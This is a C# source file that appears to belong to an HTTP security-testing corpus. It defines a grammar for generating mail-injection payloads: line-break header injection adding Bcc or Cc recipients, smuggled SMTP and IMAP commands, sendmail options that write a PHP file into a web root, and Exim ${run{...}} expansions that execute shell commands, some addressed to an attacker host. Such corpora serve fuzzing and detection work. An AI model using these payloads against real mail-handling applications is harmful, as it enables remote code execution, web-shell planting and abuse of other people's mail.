namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Line breaks and options that add recipients, headers or commands to a mail.</summary>
/// <remarks>OWASP WSTG-INPV-10, CAPEC-134, CAPEC-183, CWE-93; RFC 5321, RFC 3501.</remarks>
internal static class MailInjection
{
    public const string Text = """"
        §mail
        6× «mailaddr»«nlpart»«mailheader»
        2× «mailaddr»«nlpart»«mailheader»«nlpart»«mailheader»
        2× «mailaddr»«nlpart»«mailheader»«nlpart»«nlpart»«word» «word»
        «mailaddr»«nlpart»«nlpart».«nlpart»«MAIL FROM¦RCPT TO»:«¦ »<«mailaddr»>«nlpart»«RCPT TO:<«mailaddr»>¦DATA»
        «nlpart»«MAIL FROM¦RCPT TO¦VRFY¦EXPN¦HELO¦DATA¦RSET¦QUIT»«:¦ »<«mailaddr»>
        «word»«nlpart»«V«#100-999» ¦A«#100-999» ¦»«CAPABILITY¦FETCH 1 BODY[TEXT]¦NOOP¦LOGOUT¦SELECT INBOX¦LIST "" *¦STATUS INBOX (MESSAGES)»
        "«nlpart»V«#100-999» «CAPABILITY¦NOOP¦LOGOUT»«nlpart»V«#100-999» FETCH «#1-9999»
        «word»" -OQueueDirectory=/tmp -X/var/www/html/«rand».php "@«evilhost»
        "«word»\" -oQ/tmp/ -X/var/www/«rand».php  «word»"@«evilhost»
        «mailaddr» -«X/tmp/«rand»¦be ${run{«shellcmd»}}¦C/etc/passwd»
        «word»(tmp1 -be ${run{${substr{0}{1}{$spool_directory}}bin${substr{0}{1}{$spool_directory}}«word»}} tmp2)
        «mailaddr→url»«nlpart»«mailheader→url»
        «param»=«mailaddr»«nlpart»«mailheader»
        ${run{«shellcmd»}}@«evilhost»
        §mailaddr
        3× «word»@«word».com
        «word»@«evilhost»
        «word»
        «num»
        §mailheader
        5× «Bcc¦bcc¦Cc¦CC¦cc¦To¦BCC»:«¦ ¦%20»«mailaddr»«¦,«mailaddr»»
        2× Subject:«¦ ¦%20»«word»
        2× Content-Type:«¦ ¦%20»«text/html¦multipart/mixed; boundary=«rand»;¦text/plain»
        From:«¦ ¦%20»«mailaddr»
        Reply-To:«¦ »«mailaddr»
        MIME-Version: 1.0
        X-Mailer: «rand»
        Content-Transfer-Encoding: base64
        """";
}
